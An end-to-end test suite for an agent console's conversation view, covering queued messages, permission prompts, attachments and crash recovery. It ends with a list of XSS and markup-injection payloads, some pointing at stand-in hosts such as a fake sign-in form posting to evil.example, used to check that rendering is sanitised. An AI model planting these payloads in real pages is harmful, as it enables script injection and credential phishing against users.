import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { CHROMIUM, openBrowser, WINDOW_NAMES } from '../../support/console.ts';
import type { ConsoleBrowser } from '../../support/console.ts';
import { startServer } from '../../support/server-process.ts';
import type { ServerProcess } from '../../support/server-process.ts';
import { ServerSeries } from '../../support/server-series.ts';

const ACP_AGENT = fileURLToPath(
  new URL('../../../packages/agent-server/test/support/acp-agent.mjs', import.meta.url),
);

/** Agents in terminals are typed to and waited for; on a busy machine an answer takes its time. */
const ANSWER = { timeout: 60_000 };
vi.setConfig({ testTimeout: 120_000 });

let browser: ConsoleBrowser;
let server: ServerProcess;
let folder: string;
beforeAll(async () => {
  if (CHROMIUM === null) return;
  folder = await mkdtemp(join(tmpdir(), 'agentapi-proxy-conversation-'));
  const asking = {
    command: process.execPath,
    args: [ACP_AGENT, join(folder, 'acp.json')],
    transport: 'acp',
    env: { AGENTAPI_ACP_PERMISSIONS: 'ask' },
  };
  await writeFile(join(folder, 'acp.json'), JSON.stringify({ steps: [{ actions: ACP_TURN }] }));
  [browser, server] = await Promise.all([openBrowser(), startServer({ config: { agents: { asking } } })]);
});
afterAll(async () => {
  if (CHROMIUM === null) return;
  await browser[Symbol.asyncDispose]();
  await server[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
});

const ACP_TURN = [
  {
    update: { sessionUpdate: 'plan', entries: [{ content: 'Read', priority: 'high', status: 'completed' }] },
  },
  {
    update: {
      sessionUpdate: 'tool_call',
      toolCallId: 'read',
      title: 'Read src/app.ts',
      kind: 'read',
      status: 'completed',
      content: [{ type: 'content', content: { type: 'text', text: 'export const answer = 42;' } }],
    },
  },
  {
    permission: {
      toolCall: {
        toolCallId: 'run',
        title: 'Run the tests',
        kind: 'execute',
        rawInput: { command: 'npm test' },
      },
      options: [
        { optionId: 'once', name: 'Allow once', kind: 'allow_once' },
        { optionId: 'no', name: 'Reject', kind: 'reject_once' },
      ],
    },
  },
  { chunk: '\n\n## Done\n\nIt is **mended**:\n\n```ts\nexport const answer: number = 42;\n```\n' },
];

const box = (page: Page) => page.getByLabel('Message to the agent');
const log = (page: Page) => page.getByRole('log', { name: 'Conversation' });
const waiting = (page: Page) => page.getByRole('list', { name: 'Messages that wait for the agent' });
const send = async (page: Page, text: string): Promise<void> => {
  await box(page).fill(text);
  await page.getByRole('button', { name: /^(?:Send|Queue)$/ }).click();
};
const toEnd = async (page: Page): Promise<number> =>
  await log(page).evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);

describe.skipIf(CHROMIUM === null)('a conversation [needs chromium]', () => {
  test.each(WINDOW_NAMES)(
    'on a %s: one writes, the agent answers, and that is announced once',
    async (window) => {
      const session = await server.client.start();
      await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
        await box(page).fill('Hello\nagent');
        await box(page).press('Shift+Enter');
        expect(await box(page).inputValue()).toBe('Hello\nagent\n');
        // The keyboard of a telephone has no Shift+Enter: there Enter begins a line, and the button sends.
        if (window === 'desktop') await box(page).press('Enter');
        else await page.getByRole('button', { name: /^(?:Send|Queue)$/ }).click();
        await log(page).getByRole('article', { name: /^You/ }).getByText('Hello').waitFor();
        await log(page).getByText('You said: Hello').waitFor(ANSWER);
        expect(await box(page).inputValue()).toBe('');
        await page
          .locator('[data-announcer]')
          .getByText('demo: You said: Hello')
          .waitFor({ state: 'attached' });
        await page.locator('.status-line').getByText('Waiting for you').waitFor();
        await check();
      });
      await session.delete();
    },
  );

  test.each(WINDOW_NAMES)(
    'on a %s: while the agent works messages wait, and can be changed, taken back, and let through',
    async (window) => {
      const session = await server.client.start();
      await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
        await send(page, '/think 3600');
        await page.locator('.status-line').getByText('Working for').waitFor();
        await log(page).getByText('/think 3600').waitFor();
        await send(page, 'first thought');
        await send(page, 'second thought');
        const first = waiting(page).getByRole('listitem').filter({ hasText: 'first thought' });
        const second = waiting(page).getByRole('listitem').filter({ hasText: 'second thought' });
        await second.getByRole('button', { name: 'Take this message back' }).click();
        await expect.poll(() => second.count()).toBe(0);
        await first.getByRole('button', { name: 'Edit this message' }).click();
        await page.getByLabel('Text of the waiting message').fill('better thought');
        await check();
        await page.getByRole('button', { name: 'Save' }).click();
        await waiting(page).getByText('better thought').waitFor();
        await page.getByRole('button', { name: 'Interrupt' }).click();
        await log(page).getByText('You said: better thought').waitFor(ANSWER);
        await expect.poll(() => waiting(page).count()).toBe(0);
        const { messages } = await session.conversation.messages();
        const said = messages.filter(({ role }) => role === 'user').map(({ content }) => content);
        expect(said).toEqual(['/think 3600', 'better thought']);
      });
      await session.delete();
    },
  );

  test('what is written stays in the browser until it is sent', async () => {
    const session = await server.client.start();
    const path = `/sessions/${session.id}`;
    await browser.visit({ server, path }, async ({ page, goto }) => {
      await box(page).fill('half a tho');
      await goto('/sessions');
      await page.getByRole('heading', { name: 'Sessions' }).waitFor();
      await goto(path);
      await expect.poll(() => box(page).inputValue()).toBe('half a tho');
      await box(page).press('Enter');
      await log(page).getByText('You said: half a tho').waitFor(ANSWER);
      await page.reload();
      await log(page).getByText('You said: half a tho').waitFor(ANSWER);
      expect(await box(page).inputValue()).toBe('');
    });
    await session.delete();
  });

  test.each(WINDOW_NAMES)(
    'on a %s: questions of an agent are answered with buttons, or with keys',
    async (window) => {
      const session = await server.client.start();
      await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
        await send(page, '/ask');
        const question = page.getByRole('region', { name: 'Question of the agent' }).first();
        await question.getByRole('button', { name: 'Yes', exact: true }).waitFor();
        await check();
        await question.getByRole('button', { name: 'Yes', exact: true }).click();
        await log(page).getByText('You chose: Yes').waitFor(ANSWER);
        await expect.poll(() => question.count()).toBe(0);
        await page.locator('.status-line').getByText('Waiting for you').waitFor();
        await send(page, '/ask');
        await question.waitFor();
        await page.getByRole('button', { name: 'Keys of the terminal' }).click();
        await check();
        const keys = page.getByRole('group', { name: 'Keys of the terminal' });
        await keys.getByRole('button', { name: 'Arrow down' }).click();
        await keys.getByText('Arrow down pressed').waitFor({ state: 'attached' });
        await keys.getByRole('button', { name: 'Enter', exact: true }).click();
        await log(page).getByText("You chose: Yes, and don't ask again").waitFor(ANSWER);
      });
      await session.delete();
    },
  );

  test.each(WINDOW_NAMES)(
    'on a %s: an agent that speaks ACP shows its plan and its tool calls, and asks for permission',
    async (window) => {
      const session = await server.client.start({ agent: 'asking', message: 'Mend it' });
      await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
        const request = page.getByRole('region', { name: 'May the agent do this: Run the tests' });
        await request.getByText('What it is about').click();
        await request.getByText('npm test').waitFor();
        await check();
        await request.getByRole('button', { name: 'Allow once' }).click();
        await log(page).getByRole('heading', { name: 'Done' }).waitFor();
        expect(await request.count()).toBe(0);
        await log(page).getByText('Read src/app.ts').click();
        await log(page).getByText('export const answer = 42;').waitFor();
        await log(page).getByText('1 of 1 done').waitFor();
        await log(page).locator('.hljs-keyword').first().waitFor();
        await check();
        if (window === 'desktop') {
          await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
          await log(page).getByRole('button', { name: 'Copy', exact: true }).click();
          await log(page).getByRole('button', { name: 'Copied' }).waitFor();
          expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
            'export const answer: number = 42;',
          );
        }
      });
      await session.delete();
    },
  );

  test.each(WINDOW_NAMES)(
    'on a %s: an agent that asks for permission waits for somebody, and the list says so',
    async (window) => {
      const session = await server.client.start({ agent: 'asking', message: 'Mend this' });
      await browser.visit({ server, window }, async ({ page, check }) => {
        const row = page.getByRole('listitem').filter({ hasText: 'Mend this' });
        await row.getByText('Waiting for you').waitFor(ANSWER);
        await check();
        expect((await session.status()).status).toBe('running');
        await row.locator('.session-link').click();
        await page.getByRole('button', { name: 'Allow once' }).click();
        await log(page).getByRole('heading', { name: 'Done' }).waitFor();
      });
      await session.delete();
    },
  );

  test.each(WINDOW_NAMES)(
    'on a %s: files go to the agent, those that are too large do not',
    async (window) => {
      const session = await server.client.start();
      await session.waitUntilReady();
      await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
        const picker = page.locator('input[type=file]');
        await page.getByRole('button', { name: 'Attach files' }).and(page.locator(':enabled')).waitFor();
        await picker.setInputFiles([
          { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('remember this') },
          { name: 'huge.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(11 * 2 ** 20) },
        ]);
        await page.getByText('huge.bin is larger than the 10 MB that an agent takes.').waitFor();
        const files = page.getByRole('list', { name: 'Files for the agent' });
        await files.locator('[data-state=done]').getByText('notes.txt').waitFor();
        await check();
        await page.evaluate(() => {
          const data = new DataTransfer();
          data.items.add(new File(['dropped'], 'dropped.txt'));
          document
            .querySelector('.composer')
            ?.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true }));
        });
        await files.locator('[data-state=done]').getByText('dropped.txt').waitFor();
        await files.getByRole('button', { name: 'Remove dropped.txt' }).click();
        // A reload loses neither text nor files.
        await box(page).fill('Look');
        await page.reload();
        await files.getByText('notes.txt').waitFor();
        await page.getByRole('button', { name: 'Send' }).click();
        await log(page).getByText('You said: Look').waitFor(ANSWER);
      });
      const { messages } = await session.conversation.messages();
      const sent = messages.find(({ role }) => role === 'user')?.content ?? '';
      const path = /^Look\n\nAttached files:\n- (?<path>.*notes\.txt)$/.exec(sent)?.groups?.['path'];
      expect(await readFile(path ?? '', 'utf8')).toBe('remember this');
      await session.delete();
    },
  );

  test.each(WINDOW_NAMES)('on a %s: templates of profiles are filled in', async (window) => {
    const { profile } = await server.client.profiles.create({
      name: 'Reviews',
      message_templates: [
        { name: 'review', content: 'Review {{file}} for {{ concern }}.' },
        { name: 'hello', content: 'Say hello.' },
      ],
    });
    const session = await server.client.start();
    await browser.visit({ server, path: `/sessions/${session.id}`, window }, async ({ page, check }) => {
      await page.getByRole('button', { name: 'Use a template' }).click();
      await check();
      await page.getByRole('button', { name: /^review/ }).click();
      await page.getByRole('textbox', { name: 'file' }).fill('src/app.ts');
      expect(await page.getByRole('button', { name: 'Insert' }).isDisabled()).toBe(true);
      await page.getByRole('textbox', { name: 'concern' }).fill('races');
      await check();
      await page.getByRole('textbox', { name: 'concern' }).press('Enter');
      expect(await box(page).inputValue()).toBe('Review src/app.ts for races.');
    });
    await session.delete();
    await server.client.profiles.delete(profile.id);
  });

  test('of a session that has ended is there to read, says why, and goes on when the session does', async () => {
    const session = await server.client.start({ message: 'Hello' });
    await browser.visit({ server, path: `/sessions/${session.id}` }, async ({ page, check }) => {
      await log(page).getByText('You said: Hello').waitFor(ANSWER);
      await send(page, '/exit 3');
      await page.getByText('This session has ended. Resume it to go on.').first().waitFor();
      expect(await box(page).evaluate((area) => area instanceof HTMLTextAreaElement && area.readOnly)).toBe(
        true,
      );
      await check();
      await page.reload();
      await log(page).getByText('You said: Hello').waitFor(ANSWER);
      await page.getByRole('button', { name: 'Resume' }).click();
      await send(page, 'again');
      await log(page).getByText('You said: again').waitFor(ANSWER);
    });
    await session.delete();
  });

  test.each(WINDOW_NAMES)(
    'on a %s: a crash of the server loses nothing and doubles nothing, and what is sent meanwhile arrives',
    async (window) => {
      await using series = await ServerSeries.start();
      const { port } = series.server;
      await series.server.stop();
      await series.next({ config: { port } });
      const session = await series.server.client.start({ message: 'before' });
      const visit = {
        server: series.server,
        path: `/sessions/${session.id}`,
        window,
        expectBrokenConnections: true,
      };
      await browser.visit(visit, async ({ page }) => {
        await log(page).getByText('You said: before').waitFor(ANSWER);
        await series.crash();
        await page.getByText('Reconnecting … What you see may be old.').waitFor();
        await send(page, 'meanwhile');
        await waiting(page).getByText('meanwhile').waitFor();
        await series.next();
        await log(page).getByText('You said: meanwhile').waitFor(ANSWER);
        await send(page, 'after');
        await log(page).getByText('You said: after').waitFor(ANSWER);
        await expect.poll(() => waiting(page).count()).toBe(0);
        const shown = await log(page)
          .getByRole('article')
          .evaluateAll((articles) =>
            articles.map((article) => Number(article.getAttribute('data-message-id'))),
          );
        const { messages } = await series.server.client.session(session.id).conversation.messages();
        expect(shown).toEqual(messages.map(({ id }) => id));
        const said = messages.filter(({ role }) => role === 'user').map(({ content }) => content);
        expect(said).toEqual(['before', 'meanwhile', 'after']);
      });
    },
    120_000,
  );
});

/** An agent server whose conversation is what the test says. */
async function talkingServer(
  script: readonly { readonly role: 'agent' | 'user'; readonly content: string }[],
) {
  const path = join(folder, `script-${script.length}.json`);
  await writeFile(path, JSON.stringify(script));
  const talking = await startServer({
    config: {
      agent_server: 'external',
      agentapi_path: fileURLToPath(new URL('../../support/talking-agentapi.mjs', import.meta.url)),
    },
  });
  const session = await talking.client.start({ environment: { TALK_SCRIPT: path } });
  const say = async (content: string, id?: number): Promise<void> => {
    const body = JSON.stringify({ content, id });
    await talking.request(`/${session.id}/say`, { method: 'POST', body });
  };
  return { talking, session, say };
}

describe.skipIf(CHROMIUM === null)('a conversation of 2,000 messages [needs chromium]', () => {
  test.each(WINDOW_NAMES)(
    'on a %s: begins at its end, and stays where one reads',
    async (window) => {
      const { talking, session, say } = await talkingServer(
        Array.from({ length: 2_000 }, (_none, id) =>
          id % 2 === 0
            ? { role: 'user', content: `Message ${id}` }
            : {
                role: 'agent',
                content: `## Step ${id}\n\nI did **it**.\n\n\`\`\`ts\nconst step = ${id};\n\`\`\`\n`,
              },
        ),
      );
      await using _talking = talking;
      await browser.visit(
        { server: talking, path: `/sessions/${session.id}`, window },
        async ({ page, check }) => {
          await page.getByRole('heading', { name: 'Step 1999' }).waitFor({ timeout: 45_000 });
          await expect.poll(() => toEnd(page)).toBeLessThan(2);
          expect(await log(page).getByRole('article').count()).toBeLessThan(400);
          await check();
          // All the way up, page by page.
          await expect
            .poll(
              async () => {
                await log(page).evaluate((element) => element.scrollTo(0, 0));
                return await page.getByText('This is where the conversation begins.').count();
              },
              { timeout: 60_000 },
            )
            .toBe(1);
          await log(page).getByText('Message 0', { exact: true }).waitFor();
          expect(await log(page).getByRole('article').count()).toBe(2_000);
          // What is in view stays while something is said below.
          const place = page.locator('[data-message-id="1000"]');
          await place.evaluate((element) => element.scrollIntoView({ block: 'center' }));
          await page.getByRole('button', { name: 'Jump to latest' }).waitFor();
          const top = async () => (await place.boundingBox())?.y ?? Number.NaN;
          let before = await top();
          await expect
            .poll(async () => {
              const last = before;
              before = await top();
              return Math.abs(before - last);
            })
            .toBeLessThan(1);
          await say('one more');
          await page.getByRole('button', { name: '1 new message' }).waitFor();
          expect(Math.abs((await top()) - before)).toBeLessThan(2);
          await page.getByRole('button', { name: '1 new message' }).click();
          await expect.poll(() => toEnd(page)).toBeLessThan(2);
          // At the end the page follows what grows.
          for (const lines of [5, 20, 80])
            await say(Array.from({ length: lines }, (_n, i) => `line ${i}`).join('\n'), 2_000);
          await log(page).getByText('line 79').waitFor();
          await expect.poll(() => toEnd(page)).toBeLessThan(2);
        },
      );
    },
    180_000,
  );
});

/** What would do harm in a page that does not look. */
const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<a href="javascript:window.hacked = 1">click</a>',
  '[click](javascript:window.hacked=1) and **bold** text',
  '[click](  java\nscript:window.hacked=1) **bold** `code`',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=) **b** `c`',
  '![tracker](https://tracker.example/pixel.png) **bold** `code`',
  '![x](x" onerror="window.hacked=1) **bold** `code`',
  '<style>* { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>',
  '<form action=https://evil.example><input name=key><button>Sign in again</button></form>',
  '<details open ontoggle="window.hacked=1"><summary>s</summary></details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '```ts" onmouseover="window.hacked=1\ncode\n```',
  '# <b id="app" name="getElementById">clobber</b>\n\n**x** `y`',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | 2 |',
  '<https://ok.example/"onmouseover="window.hacked=1> **bold** `code`',
  '[a]: javascript:window.hacked=1\n[click][a] **bold** `code`\n',
  '⏺ Bash(<img src=x onerror=window.hacked=1>)\n  ⎿  <script>window.hacked=1</script>',
  '┌<script>window.hacked=1</script>┐\n│<img src=x onerror=window.hacked=1>│',
  '\u202Eevil\u202C \u2066isolated \u0000\u0007\u001b[31mred\u001b[0m \uFFFE',
  'مرحبا بالعالم **bold** `code`\n\nשלום עולם mixed with English',
  'x'.repeat(20_000),
  `${'> '.repeat(3_000)}deep`,
  `${'- '.repeat(3_000)}deep`,
  `**${'*'.repeat(2_000)}`,
  '| a '.repeat(2_000),
  '\n'.repeat(500),
  '👩‍👩‍👧‍👦 Z̸̡̢̛͈͍͔͎͔͙̗̲̾̈́̊̀̊a̷l̴g̵o̶',
];

describe.skipIf(CHROMIUM === null)('hostile texts [needs chromium]', () => {
  test.each(WINDOW_NAMES)(
    'on a %s: run nothing, load nothing, break nothing, and are shown',
    async (window) => {
      const script = HOSTILE.flatMap((content) => [
        { role: 'user' as const, content },
        { role: 'agent' as const, content },
        { role: 'agent' as const, content: `Look at **this** and \`that\`:\n\n${content}` },
      ]);
      const { talking, session } = await talkingServer(script);
      await using _talking = talking;
      await browser.visit({ server: talking, path: `/sessions/${session.id}`, window }, async ({ page }) => {
        await log(page).waitFor();
        await expect.poll(() => log(page).getByRole('article').count()).toBe(script.length);
        // Far from the view a text is not read as Markdown yet.
        await expect
          .poll(
            async () =>
              await log(page).evaluate((element) => {
                const far = element.querySelectorAll('.markdown > .plain-text');
                far[0]?.scrollIntoView();
                return far.length;
              }),
            { timeout: 45_000 },
          )
          .toBe(0);
        await log(page).evaluate((element) => {
          for (const fold of element.querySelectorAll('details')) fold.open = true;
        });
        const found = await log(page).evaluate((element) => ({
          tags: [
            ...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase())),
          ].sort(),
          handlers: [...element.querySelectorAll('*')].flatMap((each) =>
            [...each.attributes]
              .filter(({ name }) => name.startsWith('on') || name === 'style')
              .map(({ name }) => name),
          ),
          links: [...element.querySelectorAll('a')].map(
            ({ protocol, target, rel }) => `${protocol} ${target} ${rel}`,
          ),
          ids: [...element.querySelectorAll('[id], [name]')]
            .map(({ id }) => id)
            .filter((id) => !/^message-\d+-by$/.test(id)),
          wide: element.scrollWidth - element.clientWidth,
        }));
        const dangerous = [
          'script',
          'style',
          'iframe',
          'object',
          'embed',
          'img',
          'input',
          'form',
          'link',
          'base',
          'math',
          'template',
          'noscript',
          'animate',
          'video',
        ];
        expect(found.tags.filter((tag) => dangerous.includes(tag))).toEqual([]);
        expect(found.handlers).toEqual([]);
        expect([...new Set(found.links)]).toEqual(['https: _blank noopener noreferrer nofollow']);
        expect(found.ids).toEqual([]);
        expect(found.wide).toBe(0);
        expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
        for (const [id, { content }] of script.entries()) {
          const text = await page.locator(`[data-message-id="${id}"]`).evaluate((element) =>
            // Where a link leads to is not in its text.
            [element.textContent, ...[...element.querySelectorAll('a')].map(({ href }) => href)].join(' '),
          );
          for (const word of content.match(/[a-z]{3,}/giu) ?? []) {
            // Languages of code may be shown in another case.
            expect({ id, word, isShown: text.toLowerCase().includes(word.toLowerCase()) }).toEqual({
              id,
              word,
              isShown: true,
            });
          }
        }
      });
    },
    120_000,
  );
});
